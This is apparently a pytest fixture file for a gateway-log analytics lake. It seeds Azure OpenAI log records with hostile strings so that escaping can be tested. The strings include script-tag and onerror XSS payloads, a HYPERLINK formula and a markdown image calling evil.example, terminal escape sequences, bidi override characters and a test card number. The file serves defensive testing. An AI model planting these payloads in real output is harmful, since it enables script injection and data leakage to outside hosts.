"""Logs full of hostile texts, each with a marker to look for, and a lake of them."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from aoai_analytics.lake.delta import Lake
from aoai_analytics.lake.ingest import ingest
from aoai_analytics.lake.recompute import recompute

MARKER = "zqxMARKERxqz"
TEXTS = [
    f"<script>alert('{MARKER}')</script>",
    f'</script><img src=x onerror="alert({MARKER})">',
    f'=HYPERLINK("http://evil.example/{MARKER}","click")',
    f"  @SUM({MARKER})",
    f"\x1b[31m{MARKER}\x1b]0;title\x07",
    f"\x9b2J{MARKER}",
    f"\u202e{MARKER}\u2066",
    f"| {MARKER} |\r\n# {MARKER}\n\n![x](http://evil.example/x.png)",
    f"{MARKER} mail a@contoso.example, card 4111 1111 1111 1111",
    f"[ ( * {MARKER}",
]


def _record(number: int, category: str, properties: dict) -> str:
    envelope = {
        "time": f"2026-11-03T10:{number:02}:00Z",
        "category": category,
        "correlationId": f"id-{number}",
        "callerIpAddress": "203.0.113.7",
        "durationMs": 900,
        "isRequestSuccess": True,
        "location": "East US",
    }
    return json.dumps(envelope | {"properties": properties})


@pytest.fixture(scope="session")
def hostile_logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of logs: each text is a prompt and an answer, in bodies and in the LLM log; one line is broken."""
    lines = []
    for number, text in enumerate(TEXTS):
        asked = [{"role": "system", "content": text}, {"role": "user", "content": text}]
        answered = {"role": "assistant", "content": text}
        lines.append(
            _record(
                number,
                "GatewayLogs",
                {
                    "method": "POST",
                    "url": "https://gateway.example/openai/deployments/chat/chat/completions?api-version=2024-10-21",
                    "apiId": "azure-openai",
                    "apimSubscriptionId": "sub-a",
                    "responseCode": 200 if number else 400,
                    "backendResponseCode": 200 if number else 400,
                    "backendUrl": "https://aoai-east.openai.azure.com/openai/deployments/chat/chat/completions",
                    "requestBody": json.dumps({"messages": asked}),
                    "backendRequestBody": json.dumps({"messages": asked}),
                    "responseBody": json.dumps({"choices": [{"message": answered}]})
                    if number
                    else json.dumps({"error": {"code": "content_filter", "message": f"You said {text}"}}),
                },
            )
        )
        if number % 2:
            names = {"deploymentName": "chat", "modelName": "gpt-4o", "promptTokens": 9, "completionTokens": 3}
            lines.append(_record(number, "GatewayLlmLogs", names | {"sequenceNumber": 0, "totalTokens": 12}))
            asked_row = {"sequenceNumber": 1, "requestMessages": asked}
            lines.append(_record(number, "GatewayLlmLogs", asked_row))
            lines.append(_record(number, "GatewayLlmLogs", {"sequenceNumber": 2, "responseMessages": [answered]}))
    lines.append('{"time": "2026-11-03T11:00:00Z", "category": "GatewayLogs", "properties": {"requestBody": "' + MARKER)
    folder = tmp_path_factory.mktemp("hostile-logs")
    (folder / "PT1H.json").write_text("\n".join([*lines, ""]), "utf-8")
    return folder


@pytest.fixture(scope="session")
def hostile_lake(tmp_path_factory: pytest.TempPathFactory, hostile_logs: Path) -> Path:
    lake = Lake.create(tmp_path_factory.mktemp("hostile") / "lake")
    ingest([hostile_logs], lake)
    recompute(lake)
    return lake.path


@pytest.fixture
def marker() -> str:
    return MARKER
